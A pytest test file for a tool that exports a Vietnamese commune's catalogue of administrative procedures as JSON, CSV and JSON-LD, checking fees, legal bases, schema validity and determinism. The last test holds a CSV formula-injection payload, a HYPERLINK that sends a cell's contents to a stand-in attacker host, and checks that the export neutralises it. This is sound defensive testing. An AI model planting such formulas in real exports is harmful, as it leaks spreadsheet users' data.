"""`thutuc export`: the open-data catalogue as JSON (versioned shape with a schema), CSV and JSON-LD."""

import copy
import csv
import datetime as dt
import io
import json
import re
import shutil
import unicodedata

import pytest
from click.testing import CliRunner
from jsonschema import Draft202012Validator, FormatChecker

from helpers import ROOT, TODAY, make_catalogue
from thutuc.website import export
from thutuc.cli import main
from thutuc.catalogue.model import load

SCHEMA_PATH = ROOT / "schemas" / "export" / "catalogue-export-v1.schema.json"
SITE = "https://thu-tuc.xa-dong-hung.example/"
LINE = re.compile(r"^(?P<path>[^:]+):(?P<line>\d+):(?P<col>\d+): (?P<sev>error|warning): .+$")


def _load(root):
    result, cat = load(root, today=TODAY)
    assert cat is not None, [p.format() for p in result.problems if p.severity == "error"]
    return cat


@pytest.fixture(scope="module")
def cat():
    return _load(ROOT / "catalogue")


@pytest.fixture(scope="module")
def data(cat):
    return json.loads(export.export_json(cat))


@pytest.fixture(scope="module")
def schema():
    return json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))


def strict(node):
    """The schema with additionalProperties: false on every object: the export may hold nothing the
    schema does not document (the published schema stays open, so version 1 can grow)."""
    node = copy.deepcopy(node)

    def walk(n):
        if isinstance(n, dict):
            if "properties" in n and "additionalProperties" not in n:
                n["additionalProperties"] = False
            for v in n.values():
                walk(v)
        elif isinstance(n, list):
            for v in n:
                walk(v)

    walk(node)
    return node


def by_id(items, key="id"):
    return {item[key]: item for item in items}


# --- JSON ----------------------------------------------------------------------------------------

def test_schema_is_valid_2020_12_and_every_property_is_described(schema):
    Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    undescribed = []

    def walk(node, path):
        if isinstance(node, dict):
            for name, sub in node.get("properties", {}).items():
                if "description" not in sub:
                    undescribed.append(f"{path}/properties/{name}")
            for k, v in node.items():
                walk(v, f"{path}/{k}")
        elif isinstance(node, list):
            for i, v in enumerate(node):
                walk(v, f"{path}/{i}")

    walk(schema, "#")
    assert undescribed == []


def test_bundled_catalogue_export_validates_against_the_schema(data, schema):
    validator = Draft202012Validator(strict(schema), format_checker=FormatChecker())
    errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(data)]
    assert errors == []
    # every object of the export carries all its documented properties (null when unknown)
    assert data["format"] == "thutuc-catalogue-export" and data["version"] == 1


def test_schema_rejects_a_wrong_shape(data, schema):
    validator = Draft202012Validator(strict(schema))
    broken = copy.deepcopy(data)
    fee = by_id(broken["procedures"])["dang-ky-tam-tru"]["fees"][0]
    fee["amount"] = "15.000"
    del fee["currency"]
    broken["procedures"][0]["surprise"] = 1
    messages = [e.message for e in validator.iter_errors(broken)]
    assert any("'15.000' is not of type" in m for m in messages)
    assert any("'currency' is a required property" in m for m in messages)
    assert any("'surprise' was unexpected" in m for m in messages)


def test_real_procedures_with_their_real_fees(data):
    procs = by_id(data["procedures"])
    tam_tru = procs["dang-ky-tam-tru"]
    fees = {f["id"]: f for f in tam_tru["fees"]}
    # Thông tư 75/2022/TT-BTC: 15.000 đồng in person, 7.000 đồng online
    assert (fees["le-phi-truc-tiep"]["kind"], fees["le-phi-truc-tiep"]["amount"]) == ("fixed", 15000)
    assert fees["le-phi-truc-tiep"]["channels"] == ["in_person"]
    assert (fees["le-phi-truc-tuyen"]["amount"], fees["le-phi-truc-tuyen"]["channels"]) == (7000, ["online"])
    assert all(f["currency"] == "VND" and isinstance(f["amount"], int) for f in fees.values())
    assert tam_tru["url"] == SITE + "thu-tuc/dang-ky-tam-tru/"
    assert tam_tru["path"] == "thu-tuc/dang-ky-tam-tru/"
    assert tam_tru["code"] is None  # the catalogue gives none: not invented
    assert [b["number"] for b in tam_tru["legal_basis"]] == ["68/2020/QH14", "154/2024/NĐ-CP", "75/2022/TT-BTC"]
    assert tam_tru["agencies"]["deciding"] == {"id": "cong-an-xa", "name": "Công an xã Đông Hưng"}
    assert tam_tru["processing_time"]["unit"] == "working_days" and tam_tru["processing_time"]["amount"] == 3
    assert [c["kind"] for c in tam_tru["channels"]] == ["in_person", "online"]
    condition = by_id(tam_tru["documents"])["cho-o-hop-phap"]
    assert condition["condition"] == {"q": "ve_o_voi_ho_gia_dinh", "eq": False}
    assert condition["group"] == "show" and condition["originals"] == 1

    # certified copy: Thông tư 226/2016/TT-BTC, 2.000 đồng/page for pages 1–2, 1.000 after, at most 200.000
    copy_fee = procs["chung-thuc-ban-sao-tu-ban-chinh"]["fees"][0]
    assert copy_fee["kind"] == "per_unit" and copy_fee["unit"] == "trang"
    assert copy_fee["tiers"] == [{"from": 1, "to": 2, "amount": 2000}, {"from": 3, "to": None, "amount": 1000}]
    assert copy_fee["cap"] == 200000 and copy_fee["units"] == "so_trang" and copy_fee["times"] == "so_ban"

    khai_sinh = procs["dang-ky-khai-sinh"]
    assert khai_sinh["code"] == "1.001193"  # a string: the leading digits and zeros survive
    assert khai_sinh["lifecycle"]["status"] == "active" and khai_sinh["lifecycle"]["last_reviewed"] == "2026-06-30"
    shared = by_id(khai_sinh["documents"])["tuy-than"]["papers"][0]
    assert shared["shared_document"] == "giay-to-tuy-than"
    assert shared["shared_document"] in by_id(data["shared_documents"])
    form = by_id(khai_sinh["documents"])["to-khai"]["papers"][0]["form"]
    assert form["code"].startswith("Tờ khai đăng ký khai sinh") and form["file"] is None


def test_unknown_facts_stay_unknown(data):
    procs = by_id(data["procedures"])
    lltp = procs["cap-phieu-ly-lich-tu-phap"]
    assert [(f["kind"], f["amount"]) for f in lltp["fees"]][0] == ("unknown", None)
    online = [c for c in lltp["channels"] if c["kind"] == "online"][0]
    assert online["online_level"] == "unknown"  # the catalogue does not say full or partial
    assert all(c["online_level"] is None for c in lltp["channels"] if c["kind"] != "online")
    time = procs["du-tuyen-giao-vien"]["processing_time"]
    assert (time["unit"], time["amount"], time["duration"]) == ("unknown", None, None)
    assert all(p["sets"] is None for p in procs.values())  # no procedure states the number of sets
    province = [f for f in procs["dang-ky-khai-sinh"]["fees"] if f["kind"] == "set_by_province"]
    assert province and province[0]["amount"] is None
    # a fixed number of calendar days is the only time given as an ISO 8601 duration
    permit = procs["cap-giay-phep-xay-dung-nha-o-rieng-le"]
    assert permit["processing_time"]["duration"] == "P15D"
    assert procs["dang-ky-tam-tru"]["processing_time"]["duration"] is None


def test_abolished_procedures_are_exported_with_their_successor_drafts_are_not(data, cat):
    procs = by_id(data["procedures"])
    old = procs["cap-giay-phep-xay-dung-nha-o-rieng-le-cap-huyen"]
    assert old["lifecycle"]["status"] == "abolished"
    assert old["lifecycle"]["superseded_by"] == "cap-giay-phep-xay-dung-nha-o-rieng-le"
    assert old["lifecycle"]["since"] == "2025-07-01"
    assert by_id(data["agencies"])["ubnd-huyen-dong-hung"]["status"] == "abolished"
    published = {p.id for p in cat.procedures.values() if p.lifecycle.status != "draft"}
    assert list(procs) == sorted(published)
    assert [a["id"] for a in data["agencies"]] == sorted(a["id"] for a in data["agencies"])


def test_as_of_keeps_only_papers_and_fees_in_force(tmp_path):
    root = tmp_path / "catalogue"
    shutil.copytree(ROOT / "catalogue", root)
    path = root / "procedures/cu-tru/dang-ky-tam-tru.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("\nchannels:\n", "  - id: giay-moi\n    group: submit\n    name: Giấy tờ mới\n"
                        "    originals: 1\n    valid_from: 2027-01-01\n\nchannels:\n", 1)
    text = text.replace("    source: Thông tư 75/2022/TT-BTC\n  - id: le-phi-truc-tuyen",
                        "    source: Thông tư 75/2022/TT-BTC\n    valid_to: 2026-12-31\n"
                        "  - id: le-phi-truc-tiep-moi\n    name: Lệ phí mới\n    kind: fixed\n    amount: 20000\n"
                        "    channels: [in_person]\n    valid_from: 2027-01-01\n    source: Thông tư mới\n"
                        "  - id: le-phi-truc-tuyen", 1)
    path.write_text(text, encoding="utf-8")
    changed = _load(root)

    def tam_tru(as_of):
        return by_id(json.loads(export.export_json(changed, as_of))["procedures"])["dang-ky-tam-tru"]

    everything = tam_tru(None)
    assert [f["id"] for f in everything["fees"]] == ["le-phi-truc-tiep", "le-phi-truc-tiep-moi", "le-phi-truc-tuyen"]
    assert by_id(everything["fees"])["le-phi-truc-tiep"]["valid_to"] == "2026-12-31"
    assert "giay-moi" in by_id(everything["documents"])
    now = tam_tru(dt.date(2026, 12, 31))
    assert [f["id"] for f in now["fees"]] == ["le-phi-truc-tiep", "le-phi-truc-tuyen"]
    assert "giay-moi" not in by_id(now["documents"])
    later = tam_tru(dt.date(2027, 1, 1))
    assert [(f["id"], f["amount"]) for f in later["fees"]] == [("le-phi-truc-tiep-moi", 20000),
                                                               ("le-phi-truc-tuyen", 7000)]
    assert "giay-moi" in by_id(later["documents"])
    assert json.loads(export.export_json(changed, dt.date(2027, 1, 1)))["generated_from"]["as_of"] == "2027-01-01"
    row = next(r for r in csv.DictReader(io.StringIO(export.export_csv(changed, dt.date(2027, 1, 1))[1:]))
               if r["id"] == "dang-ky-tam-tru")
    assert "20.000 đồng" in row["fees"] and "15.000 đồng" not in row["fees"]


def test_catalogue_without_site_url_has_no_invented_urls(tmp_path):
    cat = _load(make_catalogue(tmp_path))
    data = json.loads(export.export_json(cat))
    proc = by_id(data["procedures"])["khai-sinh"]
    assert (proc["path"], proc["url"]) == ("thu-tuc/khai-sinh/", None)
    assert data["generated_from"]["office"]["site_url"] is None
    form = by_id(proc["documents"])["to-khai"]["papers"][0]["form"]
    assert form == {"code": None, "file": "forms/to-khai.pdf", "url": None, "source": None, "text": None}
    assert [c["online_level"] for c in proc["channels"] if c["kind"] == "online"] == ["partial"]
    graph = json.loads(export.export_jsonld(cat))["@graph"]
    assert all("url" not in item and item["@id"].startswith("_:") for item in graph)
    row = next(csv.DictReader(io.StringIO(export.export_csv(cat).lstrip("\ufeff"))))
    assert row["url"] == "thu-tuc/khai-sinh/"


def test_suspended_procedures_are_listed_and_say_so(tmp_path):
    root = make_catalogue(tmp_path)
    path = root / "procedures/ho-tich/khai-sinh.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "  status: active\n", "  status: suspended\n  since: 2026-10-01\n  reason: Đang sửa đổi quy trình.\n"),
        encoding="utf-8")
    cat = _load(root)
    row = next(csv.DictReader(io.StringIO(export.export_csv(cat).lstrip("\ufeff"))))
    assert (row["id"], row["status"]) == ("khai-sinh", "Tạm ngừng")
    item = json.loads(export.export_jsonld(cat))["@graph"][0]
    assert item["description"].startswith("Tạm ngừng áp dụng.")
    life = json.loads(export.export_json(cat))["procedures"][0]["lifecycle"]
    assert (life["status"], life["since"], life["reason"]) == ("suspended", "2026-10-01", "Đang sửa đổi quy trình.")


# --- CSV -----------------------------------------------------------------------------------------

def test_csv_has_a_bom_and_one_row_per_active_procedure_with_vietnamese_intact(cat):
    text = export.export_csv(cat)
    raw = text.encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the byte order mark
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == export.CSV_COLUMNS
    listed = sorted(p.id for p in cat.procedures.values() if p.lifecycle.status in ("active", "suspended"))
    assert [r["id"] for r in rows] == listed
    assert "cap-giay-phep-xay-dung-nha-o-rieng-le-cap-huyen" not in {r["id"] for r in rows}
    assert len(rows) == sum(p.lifecycle.status == "active" for p in cat.procedures.values())  # none suspended
    rows = by_id(rows)
    ks = rows["dang-ky-khai-sinh"]
    assert (ks["code"], ks["title"]) == ("1.001193", "Đăng ký khai sinh")
    assert (ks["field"], ks["levels"]) == ("Hộ tịch", "Cấp xã")
    assert ks["agency"] == "Ủy ban nhân dân xã Đông Hưng"
    assert ks["channels"] == "Trực tiếp; Trực tuyến; Dịch vụ bưu chính"
    assert ks["status"] == "Đang áp dụng" and ks["url"] == SITE + "thu-tuc/dang-ky-khai-sinh/"
    assert ks["legal_basis"].split("; ")[0] == "60/2014/QH13"
    tt = rows["dang-ky-tam-tru"]
    assert tt["fees"] == ("Lệ phí đăng ký tạm trú (nộp trực tiếp): 15.000 đồng/lần đăng ký (nộp trực tiếp); "
                          "Lệ phí đăng ký tạm trú (nộp trực tuyến): 7.000 đồng/lần đăng ký (nộp trực tuyến)")
    assert tt["legal_basis"] == "68/2020/QH14; 154/2024/NĐ-CP; 75/2022/TT-BTC"
    assert tt["processing_time"] == "03 ngày làm việc kể từ ngày nhận đủ hồ sơ hợp lệ"
    assert tt["online_level"] == export.LEVEL_UNKNOWN
    assert rows["chung-thuc-ban-sao-tu-ban-chinh"]["online_level"] == export.NOT_ONLINE
    # the tiers' own '; ' does not split the cell into false items
    assert rows["chung-thuc-ban-sao-tu-ban-chinh"]["fees"].count("; ") == 0
    assert all(unicodedata.is_normalized("NFC", v) for r in rows.values() for v in r.values())


# --- JSON-LD -------------------------------------------------------------------------------------

def test_jsonld_items_are_government_services_on_the_site(cat):
    doc = json.loads(export.export_jsonld(cat))
    context = doc["@context"]
    assert isinstance(context, dict)  # inline: nothing to fetch
    assert "@import" not in context and not any(isinstance(v, dict) and "@context" in v for v in context.values())
    assert context["cpsv"] == "http://purl.org/vocab/cpsv#" and context["dct"] == "http://purl.org/dc/terms/"
    graph = doc["@graph"]
    assert len(graph) == len(cat.listed())
    for item in graph:
        assert "GovernmentService" in item["@type"] and "cpsv:PublicService" in item["@type"]
        assert item["url"].startswith(SITE + "thu-tuc/") and item["@id"] == item["url"]
        assert item["name"] and item["description"] and item["serviceType"]
        assert item["provider"]["@type"] == ["GovernmentOrganization", "cv:PublicOrganisation"]
        assert item["cv:hasCompetentAuthority"] == {"@id": item["provider"]["@id"]}
        assert all(ch["@type"] == ["ServiceChannel", "cv:Channel"] for ch in item["availableChannel"])
        assert all(e["@type"] == "cv:Evidence" for e in item["cpsv:hasInput"])
        assert item["termsOfService"] and len(item["cv:hasLegalResource"]) == len(item["termsOfService"])
    assert len({item["@id"] for item in graph}) == len(graph)

    items = {item["@id"]: item for item in graph}
    tam_tru = items[SITE + "thu-tuc/dang-ky-tam-tru/"]
    assert sorted((o["price"], o["priceCurrency"]) for o in tam_tru["offers"]) == [(7000, "VND"), (15000, "VND")]
    assert {o["@id"] for o in tam_tru["offers"]} == {c["@id"] for c in tam_tru["cv:hasCost"]}
    assert "68/2020/QH14" in {r["eli:id_local"] for r in tam_tru["cv:hasLegalResource"]}
    assert tam_tru["provider"]["@id"] == SITE + "co-quan/cong-an-xa/"
    assert tam_tru["areaServed"] == {"@type": "AdministrativeArea", "name": "Đông Hưng, Hưng Yên"}
    permit = items[SITE + "thu-tuc/cap-giay-phep-xay-dung-nha-o-rieng-le/"]
    assert permit["cv:processingTime"] == "P15D"
    assert "cv:processingTime" not in tam_tru  # working days are not a fixed duration
    copy_item = items[SITE + "thu-tuc/chung-thuc-ban-sao-tu-ban-chinh/"]
    specs = copy_item["offers"][0]["priceSpecification"]
    assert [s.get("price") for s in specs] == [2000, 1000, None] and specs[-1]["maxPrice"] == 200000
    assert items[SITE + "thu-tuc/dang-ky-khai-sinh/"]["identifier"] == "1.001193"


# --- determinism and the command -----------------------------------------------------------------

@pytest.mark.parametrize("fmt", export.FORMATS)
def test_exporting_twice_gives_the_same_bytes(fmt, cat):
    # a second model, built separately and checked as on another day
    result, again = load(ROOT / "catalogue", today=TODAY + dt.timedelta(days=400))
    first, second = export.export(cat, fmt), export.export(again, fmt)
    assert first.encode("utf-8") == second.encode("utf-8")
    assert first.endswith("\n") and unicodedata.is_normalized("NFC", first)
    # no "generated at" stamp: every date in the output is a date written in the catalogue
    sources = "".join(f.read_text(encoding="utf-8") for f in (ROOT / "catalogue").rglob("*.yaml"))
    iso = set(re.findall(r"\b\d{4}-\d{2}-\d{2}\b", first))
    written = {d for d in re.findall(r"\b\d{2}/\d{2}/\d{4}\b", first) if d not in sources}
    iso |= {"-".join(reversed(d.split("/"))) for d in written}  # 01/07/2025 shown for 2025-07-01
    assert iso and {d for d in iso if d not in sources} == set()


def test_cli_writes_the_file_and_exits_0(tmp_path, cat):
    runner = CliRunner()
    for fmt, name in (("json", "thu-tuc.json"), ("csv", "thu-tuc.csv"), ("jsonld", "thu-tuc.jsonld")):
        target = tmp_path / name
        res = runner.invoke(main, ["export", "--catalogue", str(ROOT / "catalogue"), "--format", fmt,
                                   "-o", str(target)])
        assert res.exit_code == 0, res.output
        assert target.read_bytes() == export.export(cat, fmt).encode("utf-8")
        assert f"exported as {fmt} to {target}" in res.stdout
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary files left
    res = runner.invoke(main, ["export", "--catalogue", str(ROOT / "catalogue"), "--format", "csv"])
    assert res.exit_code == 0 and res.stdout_bytes == export.export_csv(cat).encode("utf-8")


def test_cli_refuses_a_broken_catalogue_with_positioned_errors(tmp_path):
    root = make_catalogue(tmp_path)
    path = root / "procedures/ho-tich/khai-sinh.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("group: show", "group: nop", 1), encoding="utf-8")
    target = tmp_path / "out.json"
    res = CliRunner().invoke(main, ["export", "--catalogue", str(root), "-o", str(target)])
    assert res.exit_code == 1
    assert not target.exists() and res.stdout == ""
    lines = res.stderr.strip().splitlines()
    errors = [m for m in map(LINE.match, lines) if m and m["sev"] == "error"]
    assert errors and {m["path"] for m in errors} == {str(path)}
    assert "Traceback" not in res.stderr
    assert lines[-1] == "thutuc export: the catalogue has errors; nothing was exported"


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(tmp_path):
    root = make_catalogue(tmp_path)
    path = root / "procedures/ho-tich/khai-sinh.yaml"
    text = path.read_text(encoding="utf-8")
    title = re.search(r"^title: (.+)$", text, re.M).group(1)
    payload = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
    path.write_text(text.replace(f"title: {title}", "title: '" + payload.replace("'", "''") + "'"), encoding="utf-8")
    row = next(csv.DictReader(io.StringIO(export.export_csv(_load(root)).lstrip("\ufeff"))))
    assert row["title"] == "'" + payload
    assert export.export_json(_load(root)).count(payload.replace('"', '\\"')) >= 1  # JSON keeps the text as typed
